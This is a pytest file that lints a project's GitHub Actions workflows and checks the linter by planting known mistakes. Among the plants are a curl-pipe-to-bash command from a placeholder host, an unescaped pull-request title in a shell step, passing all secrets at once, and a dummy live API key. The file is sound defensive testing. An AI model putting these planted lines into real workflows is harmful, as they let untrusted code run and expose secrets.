"""Rules for workflows that scanners do not check, or that are this project's own. Each has a planted mistake."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from pipeline.plan import SKIPPABLE as SKIPPABLE_BY_THE_PLAN

from .release_rules import RULES as RELEASE_RULES
from .release_rules import called, needed

Flow = dict[Any, Any]
FORBIDDEN_EVENTS = {"pull_request_target", "workflow_run"}
RUNNERS = {"ubuntu-24.04", "ubuntu-24.04-arm", "macos-15"}
MAKERS = {"actions", "aquasecurity", "Azure", "docker", "github", "ossf"}  # whose actions may be used
MAX_MINUTES = 45
WAITING = {"databricks": 270}  # what waits for the work of another machine, which ends by itself before
ROOT = Path(__file__).resolve().parents[2]
SKIPPABLE = ("check", "test", "train", "contract", "image", "cluster", "manifests")  # the jobs that the plan may skip
TOLD = {"login", "not_judged"}  # the plan's outputs that are about the pinned data, and no job's
# Artifacts of the run that a called workflow may download: ci.yml's own, and those of the jobs before the call.
FROM_THE_CALLER = {"bundle", "report", "manifests", "release"}


def jobs(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
    yield from flow["jobs"].items()


def steps(flow: Flow) -> Iterator[tuple[str, dict[str, Any]]]:
    for name, job in jobs(flow):
        for number, step in enumerate(job.get("steps", []), 1):
            yield f"{name}, step {number}", step


def callee(job: dict[str, Any]) -> Flow:
    """The workflow that a job calls; an empty one where it is not in this repository (`calls` reports that)."""
    path = ROOT / job["uses"].removeprefix("$/")
    return yaml.safe_load(path.read_text(encoding="utf-8")) if path.exists() else {True: "workflow_call", "jobs": {}}


def events(flow: Flow) -> dict[str, Any]:
    on = flow[True]  # YAML reads a bare `on` so
    return on if isinstance(on, dict) else dict.fromkeys([on] if isinstance(on, str) else on)


# --- rules: each yields a line for each fault of a workflow ---


def triggers(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    yield from (
        f"on {event}: it would give a stranger our token" for event in sorted(FORBIDDEN_EVENTS & set(events(flow)))
    )
    for event, filters in events(flow).items():
        if isinstance(filters, dict) and {"paths", "paths-ignore"} & set(filters):
            yield f"on {event}: with a path filter the required check may wait for ever"


def permissions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    if flow.get("permissions") != {}:
        yield "permissions at the top must be {}"
    for name, job in jobs(flow):
        if not isinstance(job.get("permissions"), dict):
            yield f"{name}: name each permission"
    for line in text.splitlines():
        if re.match(r"\s+[a-z-]+: (read|write)\b", line) and "#" not in line:
            yield f"a grant without its reason: {line.strip()}"


def pins(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for uses, comment in re.findall(r"\buses: *(\S+)(.*)", text):
        if uses.startswith(("$/", "./")):
            continue
        if uses.partition("/")[0] not in MAKERS:
            yield f"{uses}: its maker is not in MAKERS; review the action, then add it"
        if not re.fullmatch(r"[\w.-]+(/[\w-][\w.-]*)+@[0-9a-f]{40}", uses):
            yield f"{uses}: not pinned by commit"
        elif not re.fullmatch(r" # v\d+(\.\d+)*", comment):
            yield f"{uses}: its version is not beside it"
    versions: dict[str, set[str]] = {}
    for action, pin in re.findall(r"\buses: *([\w./-]+)@(\S+)", text):
        versions.setdefault(action, set()).add(pin)
    yield from (f"{action}: pinned to several commits" for action, found in versions.items() if len(found) > 1)


def commands(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for where, step in steps(flow):
        if "run" in step:
            target = re.fullmatch(r"make ([a-z0-9-]+)", str(step["run"]))
            if target is None:
                yield f"{where}: `{step['run']}` is more than one make target"
            elif target[1] not in targets:
                yield f"{where}: there is no target {target[1]}"
        if "shell" in step or "working-directory" in step:
            yield f"{where}: a make target needs neither shell nor working-directory"


def bounds(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for name, job in jobs(flow):
        if "uses" in job:
            continue
        if not 0 < job.get("timeout-minutes", 0) <= WAITING.get(name, MAX_MINUTES):
            yield f"{name}: timeout-minutes must be 1 to {MAX_MINUTES}"
        if job.get("runs-on") not in RUNNERS:
            yield f"{name}: runs-on must be one of {', '.join(RUNNERS)}"
        if "container" in job or "services" in job:
            yield f"{name}: a container of its own is one more thing to pin"
    for name, job in jobs(flow):
        if "concurrency" in job and job["concurrency"].get("cancel-in-progress") is not False:
            yield f"{name}: its concurrency must not cancel what runs"
    concurrency = flow.get("concurrency")
    if called(flow):
        return
    if not set(events(flow)) & {"push", "pull_request", "merge_group"}:
        if not isinstance(concurrency, dict) or concurrency.get("cancel-in-progress") is not False:
            yield "concurrency must not cancel what runs"
    elif not isinstance(concurrency, dict) or "github.ref" not in concurrency.get("group", ""):
        yield "concurrency must be grouped by ref"
    elif "push" in events(flow) and concurrency.get("cancel-in-progress") != "${{ github.ref != 'refs/heads/main' }}":
        yield "concurrency may cancel every ref but main"


def results(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """What would hide a failure."""
    if "continue-on-error" in text:
        yield "continue-on-error: the required check would see a success"
    for where, step in steps(flow):
        if "if" in step and "always()" in str(step["if"]):
            yield f"{where}: always() runs even when cancelled; use !cancelled()"
        if "upload-artifact" in step.get("uses", "") and "if-no-files-found" not in step.get("with", {}):
            yield f"{where}: a missing artifact would not be noticed"


def calls(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """A job calls only workflows of this repository, a step only actions; and the jobs that it needs exist."""
    for name, job in jobs(flow):
        yield from (f"{name}: it needs {other}, which is no job" for other in needed(job) if other not in flow["jobs"])
        if name in behind(flow, name):
            yield f"{name}: it waits for itself"
        if "uses" in job and not job["uses"].startswith("$/.github/workflows/"):
            yield f"{name}: it calls {job['uses']}, which is not a workflow of this commit"
    for where, step in steps(flow):
        if ".github/workflows/" in step.get("uses", ""):
            yield f"{where}: a workflow is called by a job, not by a step"


def secrets(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    if re.search(r"toJSON\(\s*secrets\s*\)|secrets\s*:\s*inherit|secrets\[", text):
        yield "all secrets are passed at once"
    if "secrets." in json.dumps(flow.get("env", {})):
        yield "a secret in the environment of every job"
    for name, job in jobs(flow):
        if "secrets." in json.dumps(job.get("env", {})):
            yield f"{name}: a secret in the environment of every step"
        handed = handed_on(job)
        rest = {key: facts for key, facts in job.items() if key != "secrets" or not handed}
        if "secrets." in json.dumps(rest) and "environment" not in job:
            yield f"{name}: a secret outside an environment"
    for where, step in steps(flow):
        for key, value in {**step.get("env", {}), **step.get("with", {})}.items():
            if re.search(r"(?i)password|token|secret|api.?key", key) and "${{" not in str(value):
                yield f"{where}: {key} is written out"
        if "actions/checkout" in step.get("uses", "") and step.get("with", {}).get("persist-credentials") is not False:
            yield f"{where}: checkout leaves its credentials behind"


def handed_on(job: dict[str, Any]) -> set[str]:
    """The secrets that a job passes to the workflow that it calls, each under its own name."""
    told = job.get("secrets", {}) if "uses" in job else {}
    plain = isinstance(told, dict) and all(value == f"${{{{ secrets.{name} }}}}" for name, value in told.items())
    return set(told) if plain else set()


def passed(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """A called workflow sees only the secrets that its caller passes, also those of its environments."""
    if "workflow_call" in events(flow):
        declared = set((events(flow)["workflow_call"] or {}).get("secrets") or {})
        asked = set(re.findall(r"\bsecrets\.(\w+)", text)) - {"GITHUB_TOKEN"}
        yield from (f"it is always empty here: the secret {name} is not declared" for name in sorted(asked - declared))
        yield from (f"the secret {name} is declared and not used" for name in sorted(declared - asked))
    for name, job in jobs(flow):
        if "uses" in job:
            declared = set((events(callee(job)).get("workflow_call") or {}).get("secrets", {}))
            yield from (f"{name}: it does not pass the secret {one}" for one in sorted(declared - handed_on(job)))
            yield from (f"{name}: nobody declares the secret {one}" for one in sorted(handed_on(job) - declared))


def versions(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """In YAML an unquoted 3.10 is the number 3.1."""
    for where, step in steps(flow):
        if "setup-python" in step.get("uses", "") and not isinstance(step.get("with", {}).get("python-version"), str):
            yield f"{where}: quote python-version"
    for name, value in flow.get("env", {}).items():
        if not isinstance(value, str):
            yield f"env {name}: quote {value}"
    for name, job in jobs(flow):
        for axis, values in job.get("strategy", {}).get("matrix", {}).items():
            yield from (f"{name}: quote {value} of {axis}" for value in values if isinstance(value, float))


def outputs(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """Every output of a job is used, by a job of the workflow or by the workflow's own outputs."""
    given = json.dumps(events(flow).get("workflow_call") or {})
    for name, job in jobs(flow):
        for key in job.get("outputs", {}):
            if f"jobs.{name}.outputs.{key} " not in given and f"needs.{name}.outputs.{key}" not in text:
                yield f"{name}: its output {key} is not used"
        for other, key in re.findall(r"needs\.(\w+)\.outputs\.(\w+)", json.dumps(job)):
            if "uses" in (source := flow["jobs"].get(other, {})):
                declared = (events(callee(source)).get("workflow_call") or {}).get("outputs", {})
                if key not in declared:
                    yield f"{name}: it uses {key}, which is not an output of {other}"


def names(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    for name, job in jobs(flow):
        told = job.get("name", "")
        if job.get("name") and "'required'" in told:
            continue
        if not re.fullmatch(r"[A-Z]\w* .+[^.]", told):
            yield f"{name}: its name is not a sentence: {told!r}"


def graph(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """One required check that waits for every job; a job may be skipped only by the plan's output of its name."""
    if "required" not in flow["jobs"]:
        return
    verdict = flow["jobs"]["required"]
    after = {name for name, job in jobs(flow) if "required" in behind(flow, name)} | {"comment"}  # it only informs
    if missing := set(flow["jobs"]) - {"required"} - after - set(needed(verdict)):
        yield f"required does not wait for {', '.join(sorted(missing))}"
    if verdict.get("if") != "${{ always() }}":
        yield "required must run always(): a skipped check counts as success"
    if verdict["steps"][-1].get("env", {}).get("NEEDS") != "${{ toJSON(needs) }}":
        yield "required does not see the results"
    yield from (f"{name}: planned, cannot be skipped" for name in SKIPPABLE if "if" not in flow["jobs"].get(name, {}))
    if missing := {"push", "pull_request", "merge_group"} - set(events(flow)):
        yield f"required does not run for {', '.join(sorted(missing))}"
    for event in ("pull_request", "merge_group"):
        if events(flow).get(event):
            yield f"on {event}: with a filter the required check may wait for ever"
    for name in needed(verdict):
        job = flow["jobs"].get(name, {})
        if "if" in job and (job["if"] != f"needs.plan.outputs.{name} == 'true'" or "plan" not in needed(job)):
            yield f"{name}: only the plan's output {name} may skip it"
        if "needs.plan.result" in json.dumps(job):
            yield f"{name}: use the plan's output, not its result"


def plan(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """The plan has an output for each job that may be skipped, both as a job and as a workflow."""
    if "plan" not in flow["jobs"] or "steps" not in flow["jobs"]["plan"]:
        return
    inner, outer = flow["jobs"]["plan"].get("outputs", {}), events(flow)["workflow_call"]["outputs"]
    for name in SKIPPABLE:
        if inner.get(name) != f"${{{{ steps.plan.outputs.{name} }}}}":
            yield f"{name}: the plan has no such output"
        if outer.get(name) != {"value": f"${{{{ jobs.plan.outputs.{name} }}}}"}:
            yield f"{name}: the plan's workflow has no such output"
    yield from (f"{name}: planned, cannot be skipped" for name in {*inner, *outer} - set(SKIPPABLE) - TOLD)


def behind(flow: Flow, name: str) -> set[str]:
    """The jobs that a job waits for, directly or through others; itself too where there is a cycle."""
    found: set[str] = set()
    todo = needed(flow["jobs"].get(name, {}))
    while todo := [other for other in todo if other not in found]:
        found.update(todo)
        todo = [further for other in todo for further in needed(flow["jobs"].get(other, {}))]
    return found


def artifacts(flow: Flow, text: str, targets: set[str]) -> Iterator[str]:
    """A job downloads only artifacts of a job that it waits for; called workflows count as the job itself."""
    made: dict[str, str] = {}
    taken: list[tuple[str, str]] = []
    for name, job in jobs(flow):
        inner = flow if "uses" not in job else callee(job)
        own = {where.split(",")[0] for where, _ in steps(inner)} if "uses" in job else {name}
        for where, step in steps(inner):
            if where.split(",")[0] in own:
                given, uses = step.get("with", {}), step.get("uses", "")
                if "upload-artifact" in uses:
                    made[given["name"]] = name
                if "download-artifact" in uses:
                    taken.append((name, given.get("name", given.get("pattern", ""))))
    for name, artifact in taken:
        if artifact in made and made[artifact] != name and made[artifact] not in behind(flow, name):
            yield f"{name}: no job that it needs uploads {artifact!r}"
        elif artifact not in made and not (called(flow) and artifact in FROM_THE_CALLER):
            yield f"{name}: nothing uploads {artifact!r}"


RULES = (
    *(triggers, permissions, pins, commands, bounds, results, calls, secrets, passed, outputs, versions, names, graph),
    *(plan, artifacts),
    *RELEASE_RULES,
)


def faults(text: str, targets: set[str]) -> list[str]:
    flow = yaml.safe_load(text)
    return [fault for rule in RULES for fault in rule(flow, text, targets)]


# --- the workflows, and mistakes that must be found ---


@pytest.fixture(scope="session")
def known(targets: dict[str, str]) -> set[str]:
    return set(targets)


@pytest.fixture(scope="session")
def flows(root: Path) -> dict[str, str]:
    return {path.name: path.read_text(encoding="utf-8") for path in sorted((root / ".github/workflows").iterdir())}


def test_every_workflow_keeps_the_rules(flows: dict[str, str], known: set[str]) -> None:
    started = {"ci", "release", "rollback", "retrain", "monitor", "security", "daily"}
    assert {f"{name}.yml" for name in started} <= set(flows)
    assert {name: [] for name in flows} == {name: faults(text, known) for name, text in flows.items()}


def test_one_commit_of_each_action_serves_all_workflows(flows: dict[str, str]) -> None:
    assert list(pins(yaml.safe_load("on: push\njobs: {}"), "\n".join(flows.values()), set())) == []


def test_the_plan_and_the_workflow_name_the_same_jobs(flows: dict[str, str]) -> None:
    assert SKIPPABLE == SKIPPABLE_BY_THE_PLAN
    conductor = yaml.safe_load(flows["ci.yml"])
    assert set(SKIPPABLE) == {n for n in needed(conductor["jobs"]["required"]) if "if" in conductor["jobs"][n]}


def test_a_caller_grants_what_the_file_it_calls_asks_for(root: Path, flows: dict[str, str]) -> None:
    """GitHub does not start a run in which a called job needs more."""
    level = {"none": 0, "read": 1, "write": 2}
    for name, text in flows.items():
        for job, facts in jobs(yaml.safe_load(text)):
            if "uses" not in facts:
                continue
            assert facts["uses"].startswith("$/.github/workflows/"), f"{name}: {job}"
            inner = yaml.safe_load((root / facts["uses"].removeprefix("$/")).read_text(encoding="utf-8"))
            asked: dict[str, str] = {}
            for _, step in jobs(inner):
                for what, how in step["permissions"].items():
                    asked[what] = max(asked.get(what, "none"), how, key=level.__getitem__)
            assert asked == facts["permissions"], f"{name}: {job}"


CHECKOUT = re.findall(r"actions/checkout@.+", (ROOT / ".github/workflows/check.yml").read_text(encoding="utf-8"))[0]
CALL = "    uses: $/.github/workflows/check.yml\n"
PLANTS = [
    ("  pull_request:\n", "  pull_request_target:\n", "our token"),
    ("  pull_request:\n", "  pull_request:\n    paths: [src/**]\n", "wait for ever"),
    ("permissions: {}", "permissions: write-all", "must be {}"),
    ("permissions: {}", "permissions: {contents: read}", "must be {}"),
    ("permissions: {}\n", "", "must be {}"),
    (f"    permissions:\n      contents: read # checkout\n{CALL}", CALL, "name each permission"),
    (
        f"    permissions:\n      contents: read # checkout\n{CALL}",
        f"    permissions: read-all\n{CALL}",
        "name each permission",
    ),
    ("contents: read # checkout", "contents: read", "without its reason"),
    (CHECKOUT, "actions/checkout@v7", "not pinned by commit"),
    (CHECKOUT, "actions/checkout@main", "not pinned by commit"),
    (CHECKOUT, CHECKOUT.split(" #")[0], "version is not beside it"),
    (CHECKOUT, CHECKOUT.split(" #")[0] + " # newest", "version is not beside it"),
    (
        f"{CHECKOUT}\n        with:\n          persist",
        f"actions/checkout@{'0' * 40} # v1\n        with:\n          persist",
        "several commits",
    ),
    ("run: make check", "run: make checks", "no target checks"),
    ("run: make check", "run: make check || true", "more than one make target"),
    ("run: make check", "run: curl http://example.invalid/x | bash", "more than one make target"),
    ("run: make check", "run: pip install ruff", "more than one make target"),
    ("run: make check", 'run: echo "${{ github.event.pull_request.title }}"', "more than one make target"),
    ("run: make check", "run: make check\n        shell: python", "neither shell"),
    ("    timeout-minutes: 10\n", "", "timeout-minutes"),
    ("timeout-minutes: 10\n", "timeout-minutes: 360\n", "timeout-minutes"),
    ("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", "runs-on"),
    ("runs-on: ubuntu-24.04", "runs-on: self-hosted", "runs-on"),
    ("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: python:latest", "one more thing to pin"),
    ("  cancel-in-progress: ${{ github.ref != 'refs/heads/main' }}", "  cancel-in-progress: true", "but main"),
    ("  group: ci-${{ github.ref == 'refs/heads/main' && github.sha || github.ref }}", "  group: ci", "by ref"),
    ("run: make check", "run: make check\n        continue-on-error: true", "see a success"),
    ("if: ${{ !cancelled() }}\n        uses", "if: ${{ always() }}\n        uses", "use !cancelled()"),
    ("          if-no-files-found: error\n", "", "would not be noticed"),
    ("run: make check", "run: make check\n        env:\n          ALL: ${{ toJSON(secrets) }}", "at once"),
    ("permissions: {}\n", "permissions: {}\nenv: {KEY: '${{ secrets.KEY }}'}\n", "of every job"),
    ("    steps:\n", "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:\n", "of every step"),
    ("run: make check", "run: make check\n        env:\n          KEY: ${{ secrets.KEY }}", "outside an environment"),
    ("run: make check", "run: make check\n        env:\n          API_KEY: sk_live_1234", "is written out"),
    ("          persist-credentials: false\n", "          fetch-tags: false\n", "credentials behind"),
    ("persist-credentials: false", "persist-credentials: true", "credentials behind"),
    ('python-version: "3.13"', "python-version: 3.10", "quote python-version"),
    ("permissions: {}\n", "permissions: {}\nenv: {PYTHON_VERSION: 3.10}\n", "quote 3.1"),
    ('["3.11", "3.13"]', "[3.11, 3.13]", "quote 3.11"),
    ("name: Render and validate the manifests", "name: manifests", "not a sentence"),
    ("needs: [plan, check, test,", "needs: [plan, check,", "does not wait for test"),
    ("    if: ${{ always() }}\n", "", "must run always()"),
    ("          NEEDS: ${{ toJSON(needs) }}", "          NEEDS: '{}'", "does not see the results"),
    ("if: needs.plan.outputs.train == 'true'", "if: github.actor != 'octocat'", "only the plan's output"),
    (
        "if: needs.plan.outputs.image == 'true'",
        "if: needs.plan.outputs.train == 'true'",
        "only the plan's output",
    ),
    ("      image: ${{ steps.plan.outputs.image }}\n", "", "no such output"),
    ("      image: ${{ steps.plan.outputs.image }}\n", "      image: 'false'\n", "no such output"),
    ("    if: needs.plan.outputs.train == 'true'\n", "", "cannot be skipped"),
    (
        "      image: ${{ steps.plan.outputs.image }}\n",
        "      image: ${{ steps.plan.outputs.image }}\n      required: 'false'\n",
        "cannot be skipped",
    ),
    ("        value: ${{ jobs.plan.outputs.image }}\n", "        value: 'false'\n", "workflow has no such output"),
    ("    needs: [plan, train]\n", "    needs: plan\n", "uploads 'bundle'"),
    (
        "          name: bundle\n          path: build/bundle\n      - run: make contract",
        "          name: bundel\n          path: build/bundle\n      - run: make contract",
        "nothing uploads 'bundel'",
    ),
]


@pytest.mark.parametrize(("good", "bad", "says"), PLANTS, ids=[f"{says}-{bad.strip()[:40]}" for _, bad, says in PLANTS])
def test_a_planted_mistake_is_found(flows: dict[str, str], known: set[str], good: str, bad: str, says: str) -> None:
    """In the first workflow that contains the text to replace; ci.yml first."""
    found = [flows[name] for name in sorted(flows, key=lambda name: name != "ci.yml") if good in flows[name]]
    assert found, "no workflow contains the text to replace"
    faulty = faults(found[0].replace(good, bad, 1), known)
    assert any(says in fault for fault in faulty), faulty
